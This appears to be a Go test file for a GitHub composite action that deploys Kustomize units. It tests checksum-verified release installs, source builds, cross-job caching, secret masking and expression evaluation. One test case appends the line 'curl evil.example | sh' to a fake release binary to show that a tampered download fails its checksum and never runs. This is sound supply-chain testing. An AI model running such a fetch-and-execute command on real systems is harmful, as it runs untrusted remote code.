package action

import (
	"cmp"
	"crypto/sha256"
	"encoding/hex"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/kustomize-deploy/kustomize-deploy/internal/release"
)

// fakeActionPath is a copy of the action (action.yml, pinned by pin if
// given, and setup/) around a tiny module standing in for this one: its
// binary's `action` writes the outputs result (what it is: "built
// <version> <commit>") and reason (its INPUT_MODE), and its `version`
// prints the version. It builds in a second, which keeps the table of
// where the binary comes from fast; the real source is built once, by
// TestCompositeActionAppliesFromSource.
func fakeActionPath(t *testing.T, pin func([]byte) ([]byte, error)) string {
	t.Helper()
	dir := t.TempDir()
	data, err := os.ReadFile("../action.yml")
	if err != nil {
		t.Fatal(err)
	}
	if pin != nil {
		if data, err = pin(data); err != nil {
			t.Fatal(err)
		}
	}
	writeFile(t, filepath.Join(dir, "action.yml"), string(data))
	setup, err := os.ReadFile("../setup/action.yml")
	if err != nil {
		t.Fatal(err)
	}
	if pin != nil {
		if setup, err = release.PinSetup(setup, "v1.2.3", "acme/kustomize-deploy"); err != nil {
			t.Fatal(err)
		}
	}
	writeFile(t, filepath.Join(dir, "setup", "action.yml"), string(setup))
	for _, f := range []string{"plan.sh", "build.sh", "install.sh", "use.sh"} {
		src, err := os.ReadFile(filepath.Join("..", "setup", f))
		if err != nil {
			t.Fatal(err)
		}
		writeFile(t, filepath.Join(dir, "setup", f), string(src))
	}
	writeFile(t, filepath.Join(dir, "go.mod"), "module github.com/kustomize-deploy/kustomize-deploy\n\ngo 1.26.0\n")
	writeFile(t, filepath.Join(dir, "go.sum"), "")
	writeFile(t, filepath.Join(dir, "internal", "version", "version.go"), "package version\n\nvar Version, Commit = \"dev\", \"unknown\"\n")
	writeFile(t, filepath.Join(dir, "action", "doc.go"), "package action\n")
	writeFile(t, filepath.Join(dir, "cmd", "kustomize-deploy", "main.go"), `package main

import (
	"fmt"
	"os"

	"github.com/kustomize-deploy/kustomize-deploy/internal/version"
)

func main() {
	if len(os.Args) > 1 && os.Args[1] == "version" {
		fmt.Println("kustomize-deploy", version.Version)
		return
	}
	f, err := os.OpenFile(os.Getenv("GITHUB_OUTPUT"), os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		panic(err)
	}
	fmt.Fprintf(f, "result=built %s %s\nreason=%s\n", version.Version, version.Commit, os.Getenv("INPUT_MODE"))
	f.Close()
}
`)
	return dir
}

// fakeRelease serves a release's binary for this machine's runner, and
// returns the checksums.txt line that pins it.
func fakeRelease(t *testing.T, body string) (url, sums string) {
	t.Helper()
	asset := "kustomize-deploy_linux_amd64"
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/"+asset {
			http.NotFound(w, r)
			return
		}
		_, _ = w.Write([]byte(body))
	}))
	t.Cleanup(srv.Close)
	h := sha256.Sum256([]byte(body))
	return srv.URL, hex.EncodeToString(h[:]) + "  " + asset + "\n"
}

// releaseBinary stands in for a release binary: it reports that it ran.
const releaseBinary = "#!/bin/sh\n[ \"$1\" = version ] && { echo v1.2.3; exit 0; }\necho \"result=release $1\" >> \"$GITHUB_OUTPUT\"\necho \"reason=$INPUT_MODE\" >> \"$GITHUB_OUTPUT\"\n"

// Where the binary comes from: a release commit (action.yml pinned by
// cmd/release-pin) installs the release binary checked against
// setup/checksums.txt; any other ref builds the action's source, with
// setup-go only when the Go on PATH is too old, once per job, and keeps
// it in the Actions cache.
func TestCompositeActionInstallsAReleaseOrBuildsItsSource(t *testing.T) {
	if runnerOS() != "Linux" || runnerArch() != "X64" {
		t.Skip("the fake release is a linux/amd64 one")
	}
	pinned := func(b []byte) ([]byte, error) { return release.PinAction(b, "v1.2.3", "acme/kustomize-deploy") }
	// oldGo is a PATH entry whose go is older than go.mod wants.
	oldGo := t.TempDir()
	writeFile(t, filepath.Join(oldGo, "go"), "#!/bin/sh\necho go1.21.0\n")
	if err := os.Chmod(filepath.Join(oldGo, "go"), 0o755); err != nil {
		t.Fatal(err)
	}
	for name, tc := range map[string]struct {
		pin      func([]byte) ([]byte, error)
		binary   string // what the release serves
		sums     string // setup/checksums.txt; "" the served binary's
		pathHead string // prepended to PATH
		twice    bool   // the action runs a second time in the job
		wantRan  []string
		want     string // the result output
		wantFail bool
	}{
		"a release commit installs its release": {
			pin: pinned, binary: releaseBinary,
			wantRan: []string{"plan", "install", "run"}, want: "release action",
		},
		"a release binary that fails its checksum never runs": {
			pin: pinned, binary: releaseBinary + "curl evil.example | sh\n", sums: strings.Repeat("a", 64) + "  kustomize-deploy_linux_amd64\n",
			wantRan: []string{"plan", "install"}, wantFail: true,
		},
		"a branch builds its source with the Go on PATH": {
			wantRan: []string{"plan", "restore", "build", "actions/cache/save", "run"}, want: "built local-source source-",
		},
		"a branch without a recent Go sets one up first": {
			pathHead: oldGo,
			wantRan:  []string{"plan", "restore", "actions/setup-go", "build", "actions/cache/save", "run"}, want: "built local-source source-",
		},
		"a second step of the job reuses the binary": {
			twice:   true,
			wantRan: []string{"plan", "run"}, want: "built local-source source-",
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			dir := fakeActionPath(t, tc.pin)
			url, sums := fakeRelease(t, tc.binary)
			if tc.sums != "" {
				sums = tc.sums
			}
			writeFile(t, filepath.Join(dir, "setup", "checksums.txt"), sums)
			workspace := t.TempDir()
			env := map[string]string{"GITHUB_WORKSPACE": workspace, "GITHUB_SERVER_URL": "https://github.com"}
			with := map[string]string{"mode": "diff", "path": "deploy", "download-url": url}
			r := newCompositeRun(t, dir, env, with, "ghs_token")
			if tc.pathHead != "" {
				r.job["PATH"] = tc.pathHead + string(os.PathListSeparator) + r.job["PATH"]
			}
			if tc.twice {
				if _, err := r.run(); err != nil {
					t.Fatalf("first run: %v\n%s", err, r.log.String())
				}
				r.ran, r.outputs = nil, map[string]map[string]string{}
			}
			outs, err := r.run()
			if (err != nil) != tc.wantFail {
				t.Fatalf("run: %v, want failure %v\n%s", err, tc.wantFail, r.log.String())
			}
			if !slices.Equal(r.ran, tc.wantRan) {
				t.Errorf("steps run %v, want %v\n%s", r.ran, tc.wantRan, r.log.String())
			}
			if !strings.HasPrefix(outs["result"], tc.want) || (!tc.wantFail && outs["reason"] != "diff") {
				t.Errorf("outputs result %q reason %q, want result %q... and reason diff\n%s", outs["result"], outs["reason"], tc.want, r.log.String())
			}
			if tc.wantFail && !strings.Contains(r.log.String(), "checksum mismatch") {
				t.Errorf("log does not name the checksum mismatch:\n%s", r.log.String())
			}
		})
	}
}

// @main in a matrix, as a runner sees it: the first job, on a runner with
// no Go at all and an empty tool cache, sets Go up, builds and saves the
// binary in the repository's Actions cache; the next job (its own
// RUNNER_TEMP, still no Go) restores it and runs: no setup-go, no build.
// A job whose source differs (another commit) builds again.
func TestCompositeActionCachesItsBuildAcrossJobs(t *testing.T) {
	dir := fakeActionPath(t, nil)
	cache := newActionsCache(t)
	job := func() *compositeRun {
		r := newCompositeRun(t, dir, map[string]string{"GITHUB_WORKSPACE": t.TempDir()}, map[string]string{"mode": "diff", "path": "deploy"}, "ghs_token")
		r.cache = cache
		r.withoutGo()
		outs, err := r.run()
		if err != nil {
			t.Fatalf("%v\n%s", err, r.log.String())
		}
		if !strings.HasPrefix(outs["result"], "built local-source source-") {
			t.Errorf("result %q: not the built binary\n%s", outs["result"], r.log.String())
		}
		return r
	}
	first := job()
	if want := []string{"plan", "restore", "actions/setup-go", "build", "actions/cache/save", "run"}; !slices.Equal(first.ran, want) {
		t.Errorf("first job ran %v, want %v\n%s", first.ran, want, first.log.String())
	}
	second := job()
	if want := []string{"plan", "restore", "run"}; !slices.Equal(second.ran, want) {
		t.Errorf("second job ran %v, want %v (the binary from the cache)\n%s", second.ran, want, second.log.String())
	}
	if second.job["RUNNER_TEMP"] == first.job["RUNNER_TEMP"] || cache.saves != 1 {
		t.Errorf("jobs shared RUNNER_TEMP, or the cache was saved %d times (want once)", cache.saves)
	}
	if key := first.outputs["plan"]["cache-key"]; !strings.HasPrefix(key, "kustomize-deploy-"+runnerOS()+"-"+runnerArch()+"-") || key != second.outputs["plan"]["cache-key"] {
		t.Errorf("cache keys %q and %q: want the same, with the runner's OS and architecture", key, second.outputs["plan"]["cache-key"])
	}
	writeFile(t, filepath.Join(dir, "internal", "version", "extra.go"), "package version\n\nvar Extra = 1\n")
	if third := job(); !slices.Contains(third.ran, "build") {
		t.Errorf("a changed source was not built again: ran %v", third.ran)
	}
}

// The setup action (the CLI on PATH, for later steps) takes the same
// paths: on a branch (setup@main) it builds the ref's source, keeps it in
// the Actions cache and puts it on PATH; at a release commit it installs
// the pinned release, or the release asked for, downloaded from github.com
// even on GitHub Enterprise Server.
func TestSetupActionBuildsOrInstalls(t *testing.T) {
	if runnerOS() != "Linux" || runnerArch() != "X64" {
		t.Skip("the fake release is a linux/amd64 one")
	}
	pinned := func(b []byte) ([]byte, error) { return release.PinAction(b, "v1.2.3", "acme/kustomize-deploy") }
	url, sums := fakeRelease(t, releaseBinary)
	// Another release, with its own sums beside its binary.
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/checksums.txt":
			_, _ = w.Write([]byte(sums))
		case "/kustomize-deploy_linux_amd64":
			_, _ = w.Write([]byte(releaseBinary))
		default:
			http.NotFound(w, r)
		}
	}))
	t.Cleanup(other.Close)
	// curl standing in for github.com: it serves the pinned release's
	// binary at its github.com URL, hands 127.0.0.1 to the real curl, and
	// resolves nothing else.
	realCurl, err := exec.LookPath("curl")
	if err != nil {
		t.Fatal(err)
	}
	curl := t.TempDir()
	binary := filepath.Join(curl, "binary")
	writeFile(t, binary, releaseBinary)
	writeFile(t, filepath.Join(curl, "curl"), `#!/bin/sh
for a; do url=$a; done
case "$url" in http://127.0.0.1:*) exec `+realCurl+` "$@" ;; esac
while [ $# -gt 0 ]; do [ "$1" = --output ] && out=$2; shift; done
[ "$url" = https://github.com/acme/kustomize-deploy/releases/download/v1.2.3/kustomize-deploy_linux_amd64 ] || { echo "curl: (6) Could not resolve host in $url" >&2; exit 6; }
cp `+binary+` "$out"
`)
	if err := os.Chmod(filepath.Join(curl, "curl"), 0o755); err != nil {
		t.Fatal(err)
	}
	for name, tc := range map[string]struct {
		pin       func([]byte) ([]byte, error)
		with      map[string]string
		server    string // GITHUB_SERVER_URL
		sums      string // setup/checksums.txt; "" the served binary's
		wantRan   []string
		wantVer   string
		wantCheck string // in the log: what the binary was checked against
	}{
		"setup@main builds the ref's source": {
			with: map[string]string{}, wantRan: []string{"plan", "restore", "build", "actions/cache/save", "use"}, wantVer: "local-source",
		},
		"a release commit installs its release": {
			pin: pinned, with: map[string]string{"download-url": url}, wantRan: []string{"plan", "install"}, wantVer: "v1.2.3",
			wantCheck: "verified against setup/checksums.txt",
		},
		"another release asked for is checked against its own sums": {
			pin: pinned, with: map[string]string{"version": "v1.2.2", "download-url": other.URL}, wantRan: []string{"plan", "install"}, wantVer: "v1.2.2",
			// The pinned sums are another release's: using them would fail.
			sums:      strings.Repeat("b", 64) + "  kustomize-deploy_linux_amd64\n",
			wantCheck: "verified against that release's checksums.txt",
		},
		"on GitHub Enterprise Server, from github.com": {
			pin: pinned, with: map[string]string{}, server: "https://ghe.example.com", wantRan: []string{"plan", "install"}, wantVer: "v1.2.3",
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			dir := fakeActionPath(t, tc.pin)
			writeFile(t, filepath.Join(dir, "setup", "checksums.txt"), cmp.Or(tc.sums, sums))
			env := map[string]string{"GITHUB_WORKSPACE": t.TempDir(), "GITHUB_SERVER_URL": cmp.Or(tc.server, "https://github.com")}
			r := newCompositeRun(t, filepath.Join(dir, "setup"), env, tc.with, "ghs_token")
			r.job["PATH"] = curl + string(os.PathListSeparator) + r.job["PATH"]
			outs, err := r.run()
			if err != nil {
				t.Fatalf("%v\n%s", err, r.log.String())
			}
			if !slices.Equal(r.ran, tc.wantRan) {
				t.Errorf("steps run %v, want %v\n%s", r.ran, tc.wantRan, r.log.String())
			}
			if !strings.HasPrefix(outs["version"], tc.wantVer) && !strings.Contains(outs["version"], tc.wantVer) {
				t.Errorf("output version %q, want %s\n%s", outs["version"], tc.wantVer, r.log.String())
			}
			if !strings.Contains(r.job["PATH"], filepath.Dir(outs["path"])) || filepath.Dir(outs["path"]) == "." {
				t.Errorf("output path %q is not on the job's PATH %q", outs["path"], r.job["PATH"])
			}
			if tc.wantCheck != "" && !strings.Contains(r.log.String(), tc.wantCheck) {
				t.Errorf("log does not say %q:\n%s", tc.wantCheck, r.log.String())
			}
		})
	}
}

// The Done-when of issue 23: a workflow step `uses: ./` runs the composite
// action end to end, the binary built from this checkout's source with
// the runner's Go, applies a unit to the cluster, and its outputs come
// back through action.yml's outputs. A second step of the same job
// reuses the binary (a diff: nothing changed).
func TestCompositeActionAppliesFromSource(t *testing.T) {
	ns := cluster.Namespace(t)
	repo := newUnitRepo(t)
	gh := newFakeGitHub(t)
	gh.onlyExpectedWrites()
	gh.expectTimes(4, statusCall) // pending and success, twice
	// The kubeconfig as contents, as from a secret: it reaches the binary
	// through the run step's env, and the binary writes it to a file.
	contents, err := os.ReadFile(cluster.Kubeconfig)
	if err != nil {
		t.Fatal(err)
	}
	env, with, token := withInputs(repo.run(t, gh, "push", ns).input("kubeconfig", string(contents)))
	r := newCompositeRun(t, "..", env, with, token)
	outs, err := r.run()
	if err != nil {
		t.Fatalf("%v\n%s", err, r.log.String())
	}
	if want := []string{"plan", "restore", "build", "actions/cache/save", "run"}; !slices.Equal(r.ran, want) {
		t.Errorf("steps run %v, want %v", r.ran, want)
	}
	d, err := cluster.Client(t).AppsV1().Deployments(ns).Get(t.Context(), "web", metav1.GetOptions{})
	if err != nil || *d.Spec.Replicas != 2 {
		t.Fatalf("deployment after the composite action: %v %+v", err, d)
	}
	if _, err := cluster.Client(t).CoreV1().ConfigMaps(ns).Get(t.Context(), "web-settings", metav1.GetOptions{}); err != nil {
		t.Errorf("configmap after the composite action: %v", err)
	}
	if outs["reason"] != "ApplySucceed" || outs["changed"] != "true" || outs["revision"] != repo.head || outs["objects"] != "2" || outs["failed-units"] != "" {
		t.Errorf("outputs %v", outs)
	}
	if !strings.Contains(outs["result"], `"reason":"ApplySucceed"`) {
		t.Errorf("result output %s", outs["result"])
	}
	// Every output the binary sets reaches the action's outputs.
	for name := range r.action.Outputs {
		got, set := r.outputs["run"][name]
		if !set {
			t.Errorf("the binary did not set output %s", name)
		}
		if outs[name] != got {
			t.Errorf("output %s: the action gives %q, the binary set %q", name, outs[name], got)
		}
	}
	if !strings.Contains(r.log.String(), "kustomize-deploy from source") || !strings.Contains(r.log.String(), "built kustomize-deploy: kustomize-deploy local-source") {
		t.Errorf("log does not say the binary was built from source:\n%s", r.log.String())
	}

	// Secrets handed on through the step's env stay out of the log, and
	// the kubeconfig written from the input is gone from RUNNER_TEMP.
	for what, secret := range map[string]string{"the token": token, "the kubeconfig's token": cluster.Config.BearerToken} {
		if strings.Contains(withoutMaskCommands(r.log.String()), secret) {
			t.Errorf("%s appears in the log", what)
		}
	}
	left, _ := filepath.Glob(filepath.Join(r.job["RUNNER_TEMP"], "kustomize-deploy-kubeconfig-*"))
	if len(left) > 0 {
		t.Errorf("left in RUNNER_TEMP: %v", left)
	}

	r.with["mode"] = "diff"
	r.ran, r.outputs = nil, map[string]map[string]string{}
	outs, err = r.run()
	if err != nil {
		t.Fatalf("second step: %v\n%s", err, r.log.String())
	}
	if want := []string{"plan", "run"}; !slices.Equal(r.ran, want) {
		t.Errorf("second step ran %v, want %v (the binary of the first)", r.ran, want)
	}
	if outs["reason"] != "DiffSucceed" || outs["changed"] != "false" {
		t.Errorf("second step's outputs %v", outs)
	}
}

// The harness evaluates what action.yml uses as GitHub does, and refuses
// anything else, so action.yml cannot rely on something it does not model.
func TestCompositeHarnessEvaluatesOnlyWhatItModels(t *testing.T) {
	r := newCompositeRun(t, "..", map[string]string{"GITHUB_WORKSPACE": t.TempDir()}, map[string]string{"mode": "diff"}, "ghs_token")
	if err := r.resolveInputs(); err != nil {
		t.Fatal(err)
	}
	r.outputs["plan"] = map[string]string{"source": "build"}
	last := len(r.action.Runs.Steps)
	for expr, want := range map[string]string{
		"inputs.mode":                              "diff",
		"inputs.github-token":                      "ghs_token", // its default, ${{ github.token }}
		"steps.plan.outputs.source == 'BUILD'":     "true",      // strings compare case-insensitively
		"steps.plan.outputs.source != 'build'":     "false",
		"steps.install.outputs.path || 'fallback'": "fallback", // a skipped step's outputs are empty
		"!(inputs.mode == 'diff') || runner.os":    runnerOS(),
		"inputs.mode && steps.plan.outputs.source": "build",
	} {
		if got, err := r.eval(expr, last); err != nil || got != want {
			t.Errorf("%s = %q (%v), want %q", expr, got, err, want)
		}
	}
	for _, expr := range []string{
		"env.HOME",                   // a context it does not model
		"hashFiles('go.sum')",        // a function
		"inputs.undeclared",          // not an input of action.yml
		"github.event.pull_request",  // not modelled
		"steps.nosuch.outputs.x",     // no such step
		"steps.plan.outputs.x > 'a'", // an operator
		"inputs.mode == 'diff",       // unterminated
		"(inputs.mode == 'diff'",     // unbalanced
		"inputs.mode == ",            // incomplete
		"inputs.mode inputs.mode",    // two operands
	} {
		if got, err := r.eval(expr, last); err == nil {
			t.Errorf("%s evaluated to %q, want an error", expr, got)
		}
	}
	if _, err := r.eval("steps.run.outputs.result", 1); err == nil {
		t.Error("step 2 read the outputs of a later step")
	}
}
